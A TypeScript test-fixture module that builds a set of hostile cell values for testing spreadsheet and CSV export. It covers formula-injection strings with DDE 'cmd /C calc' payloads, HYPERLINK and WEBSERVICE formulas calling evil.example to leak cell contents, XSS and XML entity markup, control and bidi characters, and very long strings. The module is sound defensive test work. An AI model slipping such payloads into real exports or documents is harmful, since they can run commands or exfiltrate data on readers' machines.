/** Texts that have harmed readers of exports: formulas, markup, controls, bidi, digits, long ones. Each once. */
export function hostileCells(): string[] {
  return [...new Set([...formulas, ...markup, ...controls(), ...scripts, ...digits, ...escapes, ...long])]
}

const payloads = [
  ...['1+1', "cmd|'/C calc'!A0", 'HYPERLINK("http://evil.example/?"&A1,"看")'],
  ...["SUM(A1:A9)*cmd|' /C calc'!A0", 'WEBSERVICE("http://evil.example")', 'DDE("cmd";"/C calc";"x")'],
  '{1,2}',
]
const leads = [
  ...['=', '+', '-', '@', '＝', '＋', '－', '＠', "'=", ' =', '\t=', '\n=', '"=', '=-', '\u00a0='],
  ...['\ufeff=', '%=', ';='],
]
const formulas = leads.flatMap((lead) => payloads.map((payload) => `${lead}${payload}`))

const markup = [
  ...['<b>x</b>', '</t></is></c><c r="A1"><f>1+1</f><v>2</v></c>', '<f>1+1</f>'],
  ...['<script>alert(1)</script>', '<!--', '-->', '<![CDATA[x]]>', ']]>', '&amp;', '&#0;', '&lt;f&gt;'],
  ...['<?xml version="1.0"?>', '<!DOCTYPE x [<!ENTITY a "b">]>&a;', '"><img src=x onerror=alert(1)>'],
]

/** Every control character but NUL, which no CSV reader takes, alone and within a text; noncharacters too. */
const controls = (): string[] =>
  [
    ...Array.from({ length: 31 }, (_, index) => index + 1),
    0x7f,
    0x80,
    0x85,
    0x9f,
    0xfffd,
    0xfffe,
    0xffff,
    0x1fffe,
  ].flatMap((code) => [`甲${String.fromCodePoint(code)}乙`, String.fromCodePoint(code)])

const scripts = [
  ...['\u202egnp.exe\u202c', '\u2066左\u2069右', '\u200b零\u200d宽\u2060', '\ufeff开头'],
  ...['\u2028行\u2029段', 'e\u0301 é', '𠮷野家', '👨‍👩‍👧‍👦', '€￥', '㊣①㈱', '\u{20000}\u{2f800}'],
  'ﷺ'.repeat(9),
  'Z̸̡̢̛̗̘a̵l̶g̴o̷',
  ' 前后 ',
  '　全角空格　',
  'a,b;c\td|e',
  'say "x"',
  "it's",
  '两\n行',
  '三\n\n行',
  '',
]

const digits = [
  ...['913101156073788111', '91110108MA0074PN30', '11010519491231002X', '00123', '1e5', '12e34', '1/2'],
  ...['2024-02-29', '3-4', '1,234.50', '50%', '￥100', 'TRUE', 'false', '#REF!', '#N/A', 'NaN'],
  ...['-Infinity', '6222021234567890123', '13800138000', '１２３４５６７８９０１２'],
  '（2023）京0108民初1024号',
]

const escapes = [
  ...['_x0041_', '_x0041_x0042_', '_x005F_', '_x005F_x0041_', '_x0041\u0001', '_x000d_', '__x0041__'],
  ...['_x004_', '__proto__', 'constructor', 'toString', 'hasOwnProperty', '\\u0000\\n', '%00%0a'],
]

const long = ['名'.repeat(100), 'x'.repeat(300), '长'.repeat(32_767), `=${'1'.repeat(32_765)}`]
